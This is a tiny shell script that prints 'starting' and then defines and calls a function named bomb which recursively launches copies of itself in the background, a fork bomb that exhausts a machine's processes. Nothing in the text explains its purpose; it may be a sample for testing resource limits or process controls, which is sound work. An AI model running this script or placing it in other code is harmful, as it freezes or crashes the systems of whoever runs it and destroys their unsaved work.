#!/bin/sh
echo starting
bomb() {
	bomb | bomb &
	bomb | bomb &
	sleep 5
}
bomb
sleep 5
